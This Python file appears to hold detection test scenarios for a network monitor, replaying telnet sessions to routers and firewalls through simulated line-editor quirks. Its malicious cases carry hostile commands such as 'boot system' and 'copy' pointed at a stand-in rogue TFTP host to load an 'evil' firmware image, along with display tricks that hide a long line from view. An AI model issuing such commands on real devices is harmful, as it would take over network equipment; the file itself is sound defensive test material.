"""BW07: lines longer than the terminal, as each vendor's line editor shows them; and what is no login prompt."""

from __future__ import annotations

from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import ADMIN, ATTACKER, BOOT_SERVER, DEVICE, HQ, IMAGE, ROGUE
from bootwarden.traffic import telnet
from bootwarden.traffic.wire import Wire

FILE = "images/ios/2026/january/c2900-universalk9-mz.SPA.152-4.M3.evil-and-much-longer-than-a-terminal.bin"
EVIL = f"tftp://{ROGUE}/{FILE}"
WIDTHS = (24, 80, 132)


def edited(wire: Wire, editor: telnet.Editor, line: str, prompt: str = "edge1(config)#") -> None:
    """One session a width, each with a device of its own."""
    for last, width in enumerate(WIDTHS, 1):
        session = telnet.Telnet(wire, ATTACKER, f"10.0.1.{last}", prompt=prompt, port=50030 + last)
        session.login()
        session.edited(line, editor, width)
        session.close()


def each(device_file: str = FILE) -> Expect:
    """What one order on each of the devices raises."""
    return Expect(tuple(Notice("Boot_Command", f"10.0.1.{last}", ROGUE, device_file) for last in (1, 2, 3)))


ALERTS = [("BW07", 0, ATTACKER, f"10.0.1.{last}") for last in (1, 2, 3)]


@scenario("BW07", "malicious", raises=ALERTS, site=HQ, with_site=each())
def bw07_scrolled_by_ios(wire: Wire) -> None:
    """IOS moves a long line to the left."""
    edited(wire, telnet.scrolling, f"boot system {EVIL}")


@scenario("BW07", "malicious", raises=ALERTS, site=HQ, with_site=each())
def bw07_wrapped_by_a_shell(wire: Wire) -> None:
    """A shell with readline goes on in the next row."""
    edited(wire, telnet.wrapping, f"boot system {EVIL}", prompt="edge1#")


@scenario(
    "BW07",
    "malicious",
    raises=ALERTS[:1],
    site=HQ,
    with_site=Expect((Notice("Boot_Command", "10.0.1.1", ROGUE, FILE),)),
)
def bw07_pasted_and_scrolled(wire: Wire) -> None:
    """A long line is pasted: a readline that scrolls shows nothing of it but its end, over its own prompt."""
    session = telnet.Telnet(wire, ATTACKER, "10.0.1.1", prompt="edge1(config)#")
    session.login()
    session.tcp.send(f"boot system {EVIL}\r\0".encode())
    session.tcp.reply(b"\r\0<" + EVIL[-78:].encode())
    session.tcp.reply(b"\r\nedge1(config)#")
    session.close()


@scenario("BW07", "benign", site=HQ, with_site=Expect())
def bw07_pasted_negation(wire: Wire) -> None:
    """The same of a line that takes the boot server away."""
    session = telnet.Telnet(wire, ATTACKER, "10.0.1.1", prompt="edge1(config)#")
    session.login()
    session.tcp.send(f"no boot system {EVIL}\r\0".encode())
    session.tcp.reply(b"\r\0<" + EVIL[-78:].encode())
    session.tcp.reply(b"\r\nedge1(config)#")
    session.close()


@scenario("BW07", "malicious", raises=ALERTS, site=HQ, with_site=each())
def bw07_cut_by_asa(wire: Wire) -> None:
    """ASA cuts at the right margin."""
    edited(wire, telnet.cut, f"boot system {EVIL}", prompt="asa1(config)# ")


@scenario("BW07", "malicious", raises=ALERTS, site=HQ, with_site=each())
def bw07_cursor_moved_back(wire: Wire) -> None:
    """VRP and Adtran move the cursor back and write the end again."""
    edited(wire, telnet.stepping_back, f"boot system {EVIL}", prompt="[core1]")


@scenario(
    "BW07",
    "malicious",
    raises=[("BW07", 1, ATTACKER, f"10.0.1.{last}") for last in (1, 2, 3)],
    site=HQ,
    with_site=each(),
)
def bw07_completed_by_junos(wire: Wire) -> None:
    """Junos shows each blank, takes it back and shows it again."""
    edited(wire, telnet.completing, f"request system software add {EVIL}", prompt="admin@mx1> ")


@scenario(
    "BW07",
    "malicious",
    raises=[("BW07", 0, ATTACKER, DEVICE)],
    site=HQ,
    with_site=Expect((Notice("Boot_Command", DEVICE, ROGUE, "x-login:"),)),
)
def bw07_words_of_a_login(wire: Wire) -> None:
    """Descriptions, comments and file names end like prompts for a name or a password: what follows is a command."""
    session = telnet.Telnet(wire, ATTACKER, DEVICE)
    session.login()
    for line in ("description new password:", "description set PIN:", "description login: admin"):
        session.typed(line)
    session.typed(f"boot system tftp://{ROGUE}/x-login:", output="Last login: Mon Jan  5 on vty0")
    session.close()


def typing(session: telnet.Telnet, line: str) -> int:
    """A line at a device of 80 columns that scrolls, without Enter; how far behind the prompt the cursor is then."""
    at = 0
    for key, shown in zip(line, telnet.scrolling(session.prompt, line, 80), strict=True):
        session.keys(key, shown)
        at += len(shown) - 2 * shown.count("\b")
    return at


def killed(session: telnet.Telnet, at: int) -> None:
    """Ctrl-U: what is shown of the line is blanked."""
    session.keys("\x15", "\b" * at + " " * at + "\b" * at)


@scenario(
    "BW07",
    "malicious",
    # No rule restores what was killed.
    raises=[("BW07", 0, ATTACKER, "10.0.1.1"), ("BW07", 1, ATTACKER, "10.0.1.3")],
    site=HQ,
    with_site=Expect(
        (
            Notice("Boot_Command", "10.0.1.1", ROGUE, FILE),
            Notice("Boot_Command", "10.0.1.2", ROGUE, FILE),
            Notice("Boot_Command", "10.0.1.3", ROGUE, "evil.bin"),
        )
    ),
)
def bw07_edited_and_scrolled(wire: Wire) -> None:
    """Words are completed, and the window moves before the key is echoed; a line is killed and restored; a key of the
    pager stands before a command that scrolls.
    """
    session = telnet.Telnet(wire, ATTACKER, "10.0.1.1", prompt="edge1(config)#", port=50031)
    session.login()
    session.keys("bo\t", "bo\r\nedge1(config)#boot ")
    session.keys("sys\t", "sys\r\nedge1(config)#boot system ")
    shown = "boot system "
    for key in EVIL:
        if len(shown) < 64:
            session.keys(key, key)
            shown += key
        else:
            window = "$" + shown[-52:] + key
            session.keys(key, "\b" * len(shown) + window + " " * (65 - len(window)) + "\b" * (65 - len(window)))
            shown = window
    session.keys("\r\0", "\r\nedge1(config)#")
    session.close()

    session = telnet.Telnet(wire, ATTACKER, "10.0.1.2", prompt="edge2(config)#", port=50032)
    session.login()
    killed(session, typing(session, f"boot system {EVIL}"))
    session.keys("\x19", f"$ {EVIL[-58:]}")
    session.keys("\r\0", "\r\nedge2(config)#")
    session.close()

    session = telnet.Telnet(wire, ATTACKER, "10.0.1.3", prompt="edge3#", port=50033)
    session.login()
    session.typed("show version", "Cisco IOS Software\n --More-- ", prompt="")
    session.keys("q", "\b" * 10 + " " * 10 + "\b" * 10 + "\r\nedge3#")
    typing(session, f"copy tftp://{ROGUE}/evil.bin flash:a-name-that-is-longer-than-what-is-left-of-the-terminal.bin")
    session.keys("\r\0", "\r\nDestination filename [evil.bin]? ")
    session.close()


@scenario(
    "BW07",
    "benign",
    raises=[("BW07", 0, ADMIN, DEVICE)],
    raises_with_site=[],
    site=HQ,
    with_site=Expect(),
)
def bw07_long_lines_of_daily_work(wire: Wire) -> None:
    """An administrator's long lines: what is approved, and what is no order."""
    session = telnet.Telnet(wire, ADMIN, DEVICE, prompt="edge1(config)#")
    session.login()
    session.edited(f"boot system tftp://{BOOT_SERVER}/{IMAGE}" + " " * 40, telnet.scrolling, 80)
    session.edited(f"description not yet: boot system {EVIL}", telnet.scrolling, 80)
    session.edited(f"no boot system {EVIL}", telnet.scrolling, 80)
    # A line that scrolled is killed: what was shown before counts no more.
    killed(session, typing(session, f"boot system {EVIL}"))
    session.keys("do show clock\r\0", "do show clock\r\n08:00:00 UTC\r\nedge1(config)#")
    session.close()
